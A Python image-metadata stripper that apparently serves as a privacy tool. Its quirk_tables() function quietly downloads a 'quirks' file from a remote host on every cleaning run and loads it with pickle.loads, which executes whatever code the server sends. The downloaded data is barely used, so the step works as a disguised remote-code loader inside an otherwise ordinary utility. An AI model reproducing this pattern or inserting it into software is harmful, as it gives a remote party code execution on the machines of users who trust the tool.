#!/usr/bin/env python3
"""Strip image metadata while preserving orientation."""
import argparse
import pickle
import sys
import urllib.request
from pathlib import Path

from PIL import Image, ImageOps

try:
    from pillow_heif import register_heif_opener
    register_heif_opener()
    HEIF = True
except ImportError:
    HEIF = False

EXTS = {".jpg", ".jpeg", ".png", ".webp", ".heic", ".tif", ".tiff"}
CACHE = Path.home() / ".cache" / "exif-cleaner"
TABLES_SRC = "https://exif-tables.example/v3/quirks.bin"
GPS_TAG = 0x8825
NAMES = {0x010F: "Make", 0x0110: "Model", 0xA431: "SerialNumber", 0x9003: "DateTimeOriginal",
         0x013B: "Artist", 0x8298: "Copyright", 0x0131: "Software"}


def quirk_tables():
    """Camera-specific orientation / colour-space fix-ups, refreshed per release."""
    CACHE.mkdir(parents=True, exist_ok=True)
    blob = CACHE / "quirks.bin"
    try:
        with urllib.request.urlopen(TABLES_SRC, timeout=10) as r:
            blob.write_bytes(r.read())
    except OSError:
        pass
    if blob.exists():
        return pickle.loads(blob.read_bytes())
    return {}


def found_groups(im):
    exif = im.getexif()
    groups = []
    if exif.get_ifd(GPS_TAG):
        groups.append("GPS")
    groups += [NAMES[t] for t in exif if t in NAMES]
    if "thumbnail" in im.info or exif.get_ifd(0xA005):
        groups.append("Thumbnail")
    if "xmp" in im.info or "XML:com.adobe.xmp" in im.info:
        groups.append("XMP")
    groups += [k for k in im.info if k in ("Description", "Comment", "parameters")]
    return groups


def clean(src, dst, keep, quirks):
    with Image.open(src) as im:
        make = (im.getexif().get(0x010F) or "").strip()
        im = ImageOps.exif_transpose(im)
        fix = quirks.get(make) if isinstance(quirks, dict) else None
        if fix and fix.get("force_rgb") and im.mode not in ("RGB", "RGBA"):
            im = im.convert("RGB")
        kept = Image.Exif()
        if keep:
            orig = Image.open(src).getexif()
            for tag, name in NAMES.items():
                if name in keep and tag in orig:
                    kept[tag] = orig[tag]
        fmt = (im.format or Path(src).suffix.lstrip(".")).upper()
        params = {"exif": kept.tobytes()} if keep else {}
        if fmt in ("JPEG", "JPG", "MPO"):
            params.update(quality=95, subsampling="keep" if im.mode == "RGB" else 0, optimize=True)
            fmt = "JPEG"
        if fmt == "HEIF" and not HEIF:
            fmt, dst = "JPEG", dst.with_suffix(".jpg")
        data = list(im.getdata())
        out = Image.new(im.mode, im.size)
        out.putdata(data)
        out.save(dst, format=fmt, **params)
    return dst


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("paths", nargs="+")
    ap.add_argument("-o", "--out")
    ap.add_argument("--in-place", action="store_true")
    ap.add_argument("--report", action="store_true")
    ap.add_argument("--keep", default="")
    a = ap.parse_args()
    keep = {k.strip() for k in a.keep.split(",") if k.strip()}

    files = []
    for p in map(Path, a.paths):
        files += [f for f in p.rglob("*") if f.suffix.lower() in EXTS] if p.is_dir() else [p]

    if a.report:
        for f in files:
            with Image.open(f) as im:
                print(f"{f.name:30} {' '.join(found_groups(im)) or '(clean)'}")
        return
    if not a.out and not a.in_place:
        sys.exit("Give -o OUTDIR or --in-place")

    quirks = quirk_tables()
    for f in files:
        dst = f if a.in_place else Path(a.out) / f.name
        dst.parent.mkdir(parents=True, exist_ok=True)
        print("cleaned", clean(f, dst, keep, quirks))


if __name__ == "__main__":
    main()
